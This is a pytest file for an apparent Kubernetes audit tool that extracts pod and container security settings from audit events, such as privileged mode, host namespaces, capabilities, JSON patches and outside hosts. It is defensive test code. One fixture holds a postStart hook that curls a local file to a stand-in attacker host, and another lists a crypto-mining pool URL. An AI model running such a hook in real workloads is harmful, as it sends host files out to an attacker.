"""The views pod and container."""

from typing import Any

import pytest

from ekswatch.audit.event import AuditEvent
from ekswatch.audit.resources import WORKLOADS
from ekswatch.audit.views import rows
from tests.audit.examples import attack, event

LAST_APPLIED = "kubectl.kubernetes.io/last-applied-configuration"
APPLIED = attack("priv_pod_apply", verb="create")
PATCHED = attack("priv_by_patch_deployment", verb="patch")
REFUSED = attack("priv_pod_rejected_by_psa", verb="create")


TEMPLATE_SPEC = ("spec", "template", "spec")


def nested(path: tuple[str, ...], value: Any) -> Any:
    for key in reversed(path):
        value = {key: value}
    return value


def pod_event(spec: dict[str, Any], **more: Any) -> AuditEvent:
    """A create of a pod with this spec."""
    body = {"kind": "Pod", "metadata": more.pop("metadata", {"name": "p"}), "spec": spec}
    reference = {"resource": "pods", "namespace": "web"}
    return event({"verb": "create", "objectRef": reference, "requestObject": body}, **more)


def pod(given: AuditEvent) -> dict[str, Any]:
    (row,) = rows(given, "pod")
    return dict(row)


def container(spec: dict[str, Any], **pod_spec: Any) -> dict[str, Any]:
    (row,) = rows(pod_event({"containers": [spec], **pod_spec}), "container")
    return {key: value for key, value in row.items() if key.startswith("container.")}


def test_an_applied_privileged_pod() -> None:
    """Every field that a real pod has."""
    assert pod(event(APPLIED)) == {
        "pod.kind": "Pod",
        "pod.name": "nettool",
        "pod.namespace": "web",
        "pod.host_network": False,
        "pod.host_pid": False,
        "pod.host_ipc": False,
        "pod.host_process": False,
        "pod.share_process_namespace": False,
        "pod.service_account": "default",
        "pod.account": "system:serviceaccount:web:default",
        "pod.images": ("public.ecr.aws/docker/library/busybox:1.36",),
        "pod.privileged": True,
        "pod.written": True,
        "pod.last_applied_privileged": True,
        "pod.last_applied_host_network": False,
        "pod.annotations." + LAST_APPLIED: APPLIED["requestObject"]["metadata"]["annotations"][
            LAST_APPLIED
        ],
    }


@pytest.mark.parametrize(("resource", "workload"), WORKLOADS.items())
def test_the_pod_spec_is_found_in_all_nine_kinds(resource: str, workload: Any) -> None:
    """Labels and annotations are the template's."""
    template = {"metadata": {"labels": {"a.b/c": "x"}}, "spec": {"hostPID": True}}
    body = {"kind": workload.kind, "metadata": {"name": "n"}}
    merged = nested(workload.template, template) if workload.template else template
    given = event(
        {"verb": "create", "objectRef": {"resource": resource, "apiGroup": workload.group}},
        requestObject={**merged, **body, "metadata": {**merged.get("metadata", {}), "name": "n"}},
    )

    row = pod(given)

    assert (row["pod.kind"], row["pod.name"]) == (workload.kind, "n")
    assert row["pod.host_pid"] is True
    assert row["pod.labels.a.b/c"] == "x"


def test_the_response_shows_what_admission_made_of_it() -> None:
    """A webhook may have added the risky part."""
    response = {**APPLIED["responseObject"], "spec": {"hostNetwork": True, "containers": []}}

    assert pod(event(APPLIED, responseObject=response))["pod.host_network"] is True


def test_a_refused_write_is_judged_by_the_request() -> None:
    """The response is a Status; the attempt is still seen."""
    row = pod(event(REFUSED))

    assert event(REFUSED).response["kind"] == "Status"
    assert row["pod.privileged"] is True
    assert row["pod.written"] is True


def test_a_response_that_was_cut_before_its_spec_leaves_the_request() -> None:
    """Truncation must not hide what was asked for."""
    response = {"kind": "Pod", "metadata": {"name": "nettool"}}

    assert pod(event(APPLIED, responseObject=response))["pod.privileged"] is True


@pytest.mark.parametrize(
    ("request_body", "written"),
    [
        (PATCHED["requestObject"], True),
        ({"spec": {"template": {"spec": {"hostPID": None}}}}, True),
        ({"spec": {"template": {"metadata": {"annotations": {"restartedAt": "x"}}}}}, False),
        ({"spec": {"replicas": 3}}, False),
        ({"metadata": {"labels": {"a": "b"}}}, False),
        ([{"op": "add", "path": "/spec/template/spec/hostPID", "value": True}], True),
        ([{"op": "remove", "path": "/spec/template/spec/securityContext"}], True),
        ([{"op": "replace", "path": "/spec", "value": {"template": {"spec": {}}}}], True),
        ([{"op": "add", "path": "/metadata/labels/a", "value": "b"}], False),
        ([{"op": "test", "path": "/spec/template/spec/hostPID", "value": True}], False),
        (None, True),
    ],
)
def test_a_patch_writes_the_pod_spec_only_if_it_touches_it(
    request_body: Any, written: bool
) -> None:
    """A restart or a label on a privileged workload is nobody's finding."""
    given = event(PATCHED, requestObject=request_body)

    assert pod(given)["pod.written"] is written
    assert pod(given)["pod.kind"] == "Deployment"


@pytest.mark.parametrize(
    ("operations", "images", "host_pid"),
    [
        (
            [
                {"op": "add", "path": "/spec/template/spec/containers/-", "value": {"image": "a"}},
                {"op": "add", "path": "/spec/template/spec/containers/1", "value": {"image": "b"}},
                {"op": "add", "path": "/spec/template/spec/hostPID", "value": True},
            ],
            ("a", "b"),
            True,
        ),
        (
            [
                {"op": "replace", "path": "/spec/template/spec/containers/7/image", "value": "c"},
                {"op": "replace", "path": "/spec/template/spec/containers/0/tty", "value": True},
            ],
            ("c",),
            False,
        ),
        (
            [{"op": "add", "path": "", "value": nested((*TEMPLATE_SPEC, "hostPID"), True)}],
            None,
            True,
        ),
    ],
)  # fmt: skip
def test_json_patch_operations_are_applied_to_nothing(
    operations: list[dict[str, Any]], images: tuple[str, ...] | None, host_pid: bool
) -> None:
    """A refused JSON patch shows what it would have written."""
    refused = {"kind": "Status", "status": "Failure"}

    row = pod(event(PATCHED, requestObject=operations, responseObject=refused))

    assert row.get("pod.images") == images
    assert row["pod.host_pid"] is host_pid


@pytest.mark.parametrize(
    ("text", "privileged", "host_network"),
    [
        ('{"spec":{"containers":[{"securityContext":{"privileged":true}}]}}', True, False),
        ('{"spec": {"hostNetwork" :\n true}}', False, True),
        ('{"x":{"privileg\\u0065d":true}}', True, False),
        ('{"x":"{\\"privileged\\": true}"}', True, False),
        ('{"spec":{"containers":[{"securityContext":{"privileged":true', True, False),
        ('{"privileged":false,"hostNetwork":"true"}', False, False),
        ("[" * 100_000, False, False),
    ],
)
def test_the_last_applied_text_is_parsed_and_searched(
    text: str, privileged: bool, host_network: bool
) -> None:
    """Cut, quoted and oddly spelt text is understood too."""
    given = pod_event({"containers": []}, metadata={"annotations": {LAST_APPLIED: text}})

    row = pod(given)

    assert row["pod.last_applied_privileged"] is privileged
    assert row["pod.last_applied_host_network"] is host_network
    assert row["pod.privileged"] is False


def test_a_pod_without_a_spec_is_seen_by_its_last_applied_text() -> None:
    """Where the rest was left out, the annotation is the only evidence."""
    metadata = {"annotations": {LAST_APPLIED: '{"privileged":true}'}}

    assert pod(pod_event({}, metadata=metadata))["pod.last_applied_privileged"] is True
    assert rows(pod_event({}), "pod") == ()


def test_the_settings_of_a_pod() -> None:
    """Each setting where Kubernetes has it."""
    spec = {
        "hostNetwork": True,
        "hostIPC": True,
        "shareProcessNamespace": True,
        "automountServiceAccountToken": False,
        "serviceAccount": "old-name",
        "nodeName": "n1",
        "priorityClassName": "system-node-critical",
        "securityContext": {
            "sysctls": [{"name": "kernel.msgmax"}],
            "windowsOptions": {"hostProcess": True},
        },
        "containers": [
            {"image": "a", "ports": [{"hostPort": 80, "containerPort": 8080}, {"containerPort": 1}]}
        ],
        "initContainers": [{"image": "b", "securityContext": {"privileged": True}}],
        "volumes": [{"hostPath": {"path": "/var/run//"}}, {"hostPath": {"path": "/var/run"}}],
    }
    owners = [{"kind": "Job"}, {"kind": "ReplicaSet", "controller": True}]

    row = pod(pod_event(spec, metadata={"generateName": "p-", "ownerReferences": owners}))

    assert row == {
        "pod.kind": "Pod",
        "pod.name": "p-",
        "pod.namespace": "web",
        "pod.host_network": True,
        "pod.host_pid": False,
        "pod.host_ipc": True,
        "pod.host_process": True,
        "pod.host_ports": ("80",),
        "pod.share_process_namespace": True,
        "pod.sysctls": ("kernel.msgmax",),
        "pod.relaxed": ("shareProcessNamespace", "sysctl kernel.msgmax"),
        "pod.service_account": "old-name",
        "pod.account": "system:serviceaccount:web:old-name",
        "pod.automount_token": False,
        "pod.node": "n1",
        "pod.priority_class": "system-node-critical",
        "pod.images": ("a", "b"),
        "pod.host_paths": ("/var/run",),
        "pod.privileged": True,
        "pod.owner_kind": "ReplicaSet",
        "pod.written": True,
    }


@pytest.mark.parametrize(
    ("security", "relaxed"),
    [
        ({}, None),
        ({"runAsUser": 0}, ("runAsUser 0",)),
        ({"runAsUser": 1}, None),
        ({"runAsUser": False}, None),
        ({"runAsNonRoot": False}, ("runAsNonRoot false",)),
        ({"runAsNonRoot": True}, None),
        ({"allowPrivilegeEscalation": True}, ("allowPrivilegeEscalation",)),
        ({"allowPrivilegeEscalation": False}, None),
        ({"procMount": "Unmasked"}, ("procMount Unmasked",)),
        ({"procMount": "Default"}, None),
        ({"seccompProfile": {"type": "Unconfined"}}, ("seccomp Unconfined",)),
        ({"seccompProfile": {"type": "RuntimeDefault"}}, None),
        ({"appArmorProfile": {"type": "Unconfined"}}, ("AppArmor Unconfined",)),
        ({"appArmorProfile": "Unconfined"}, None),
        ({"seLinuxOptions": {"type": "spc_t"}}, ("SELinux type spc_t",)),
        ({"seLinuxOptions": {"type": "container_t", "level": "s0"}}, None),
        ({"seLinuxOptions": {"user": "system_u"}}, ("SELinux user system_u",)),
        ({"seLinuxOptions": {"role": "system_r"}}, ("SELinux role system_r",)),
        ({"privileged": True, "allowPrivilegeEscalation": True, "runAsUser": 0}, None),
    ],
)
def test_what_a_container_gives_up_is_named(security: Any, relaxed: Any) -> None:
    """Explicit settings alone, and nothing of a container that is privileged anyway."""
    given = pod_event({"containers": [{"name": "a", "securityContext": security}]})

    assert pod(given).get("pod.relaxed") == relaxed


@pytest.mark.parametrize(
    ("spec", "relaxed"),
    [
        ({"hostUsers": True}, ("hostUsers",)),
        ({"hostUsers": False}, None),
        ({"securityContext": {"runAsUser": 0}}, ("runAsUser 0",)),
        ({"securityContext": {"sysctls": [{"name": "net.ipv4.tcp_syncookies"}]}}, None),
        (
            {"securityContext": {"sysctls": [{"name": "net.core.somaxconn"}]}},
            ("sysctl net.core.somaxconn",),
        ),
        (
            {
                "securityContext": {"runAsUser": 0},
                "containers": [{"securityContext": {"runAsUser": 0}}],
            },
            ("runAsUser 0",),
        ),
    ],
)
def test_what_a_pod_gives_up_is_named_once(spec: Any, relaxed: Any) -> None:
    """Settings of the pod, and those that its containers repeat."""
    assert pod(pod_event(spec)).get("pod.relaxed") == relaxed


@pytest.mark.parametrize(
    ("key", "value", "relaxed"),
    [
        ("container.apparmor.security.beta.kubernetes.io/a", "unconfined", True),
        ("container.apparmor.security.beta.kubernetes.io/a", "runtime/default", False),
        ("example.com/a", "unconfined", False),
    ],
)
def test_an_annotation_takes_apparmor_away(key: str, value: str, relaxed: bool) -> None:
    """As it was written before the field existed."""
    given = pod_event({"hostPID": False}, metadata={"name": "p", "annotations": {key: value}})

    assert ("AppArmor Unconfined" in pod(given).get("pod.relaxed", ())) is relaxed


def test_capabilities_are_those_of_all_containers() -> None:
    """However they are spelt, once."""
    added = [{"securityContext": {"capabilities": {"add": [name]}}} for name in ("CAP_BPF", "bpf")]
    spec = {"containers": added, "initContainers": [{"securityContext": {}}]}

    assert pod(pod_event(spec))["pod.capabilities"] == ("BPF",)


def test_an_account_needs_a_name_and_a_namespace() -> None:
    """A template that names no account takes what the namespace gives."""
    assert "pod.account" not in pod(pod_event({"hostPID": False}))


def test_the_settings_of_a_container() -> None:
    """Each setting where Kubernetes has it."""
    spec = {
        "name": "shell",
        "image": "nginx:1.25",
        "command": ["sh", "-c"],
        "args": ["sleep 1"],
        "stdin": True,
        "tty": True,
        "env": [{"name": "A", "value": "secret"}, {"name": "B"}],
        "ports": [{"containerPort": 22}],
        "volumeMounts": [{"name": "v", "mountPath": "/host"}],
        "lifecycle": {"postStart": {"exec": {"command": ["wget", "x"]}}},
        "livenessProbe": {"exec": {"command": ["cat", "/ok"]}},
        "securityContext": {
            "privileged": True,
            "allowPrivilegeEscalation": True,
            "runAsUser": 0,
            "procMount": "Unmasked",
            "seccompProfile": {"type": "Unconfined"},
            "capabilities": {"add": ["cap_sys_admin", "NET_RAW"], "drop": ["ALL"]},
            "windowsOptions": {"hostProcess": True},
        },
    }

    assert container(spec) == {
        "container.name": "shell",
        "container.kind": "container",
        "container.added": False,
        "container.image": "nginx:1.25",
        "container.repository": "docker.io/library/nginx",
        "container.registry": "docker.io",
        "container.privileged": True,
        "container.host_process": True,
        "container.allow_privilege_escalation": True,
        "container.run_as_root": True,
        "container.run_as_user": 0,
        "container.capabilities": ("SYS_ADMIN", "NET_RAW"),
        "container.seccomp": "Unconfined",
        "container.proc_mount": "Unmasked",
        "container.command": "sh -c sleep 1",
        "container.hooks": ("wget x", "cat /ok"),
        "container.decoded": ("sh -c sleep 1", "wget x", "cat /ok"),
        "container.env_names": ("A", "B"),
        "container.mounts": ("/host",),
        "container.ports": ("22",),
        "container.stdin": True,
        "container.tty": True,
    }


@pytest.mark.parametrize(
    ("own", "of_pod", "root", "user"),
    [
        ({}, {}, None, None),
        ({"runAsUser": 0}, {"runAsUser": 1000}, True, 0),
        ({"runAsUser": 1000}, {"runAsUser": 0}, False, 1000),
        ({}, {"runAsUser": 0}, True, 0),
        ({"runAsNonRoot": False}, {}, True, None),
        ({"runAsNonRoot": False, "runAsUser": 5}, {}, False, 5),
        ({}, {"runAsNonRoot": True}, False, None),
        ({"runAsUser": True}, {"runAsUser": "0"}, None, None),
    ],
)
def test_the_user_is_the_containers_else_the_pods(
    own: dict[str, Any], of_pod: dict[str, Any], root: bool | None, user: int | None
) -> None:
    """Absent where the image decides."""
    row = container({"securityContext": own}, securityContext=of_pod)

    assert row.get("container.run_as_root") is root
    assert row.get("container.run_as_user") == user


def test_containers_of_all_three_lists_have_rows() -> None:
    """In the order containers, init, ephemeral; each row carries its pod."""
    spec = {
        "ephemeralContainers": [{"name": "e", "targetContainerName": "c"}],
        "initContainers": [{"name": "i"}],
        "containers": [{"name": "c"}, "nonsense"],
    }

    found = rows(pod_event(spec), "container")

    assert [(r["container.kind"], r["container.name"]) for r in found] == [
        ("container", "c"),
        ("init", "i"),
        ("ephemeral", "e"),
    ]
    assert found[2]["container.target"] == "c"
    assert all(row["pod.name"] == "p" for row in found)


def test_a_fragment_without_containers_has_one_row() -> None:
    """What it changes of the pod holds for containers that it does not name."""
    (row,) = rows(pod_event({"hostNetwork": True}), "container")

    assert row["pod.host_network"] is True
    assert "container.name" not in row


def test_a_debug_session_writes_only_its_own_container() -> None:
    """The containers that run already were judged when they were created."""
    given = event(attack("ephemeral_container", verb="patch"))

    (row,) = rows(given, "container")

    assert row["container.kind"] == "ephemeral"
    assert row["container.image"] == "docker.io/nicolaka/netshoot"
    assert row["container.target"] == "checkout"
    assert row["pod.written"] is True
    assert rows(given, "pod") == ()


def test_hosts_outside_are_those_of_commands_and_hooks() -> None:
    """Arguments and probes count, services of the cluster do not."""
    probe = {"exec": {"command": ["wget", "-q", "http://orders.shop.svc/healthz"]}}
    start = {"exec": {"command": ["sh", "-c", "curl -d @/etc/x https://evil.example/in"]}}
    made = container(
        {
            "name": "c",
            "args": ["--connect", "203.0.113.250:443"],
            "livenessProbe": probe,
            "lifecycle": {"postStart": start},
        }
    )

    assert made["container.outside_hosts"] == ("203.0.113.250", "evil.example")


@pytest.mark.parametrize(
    ("value", "peers"),
    [
        ("stratum+tcp://pool.example.net:3333", ("stratum+tcp://pool.example.net:3333",)),
        ("Pool.Example.Net:443", ("pool.example.net:443",)),
        ("postgres://app:geheim@db.example.com:5432/shop", ("postgres://db.example.com:5432",)),
        ("amqp://app:p.w@203.0.113.9", ("amqp://203.0.113.9",)),
        ("amqp://app:p/x.y:1@203.0.113.9", None),
        ("a.example.com:9092,b.example.com:9092", ("a.example.com:9092", "b.example.com:9092")),
        ("a.example.com", None),
        ("production", None),
        ("x" * 2_048 + " late.example.com:80", None),
        ("x" * 2_030 + " in.example.com:80", ("in.example.com:80",)),
        (None, None),
    ],
)
def test_hosts_in_the_environment(value: str | None, peers: tuple[str, ...] | None) -> None:
    """With scheme and port, without what stands before an at sign."""
    body = {"spec": {"containers": [{"name": "a", "env": [{"name": "A", "value": value}]}]}}

    (row,) = rows(event(APPLIED, requestObject=body, responseObject=None), "container")

    assert row["container.env_peers"] == peers
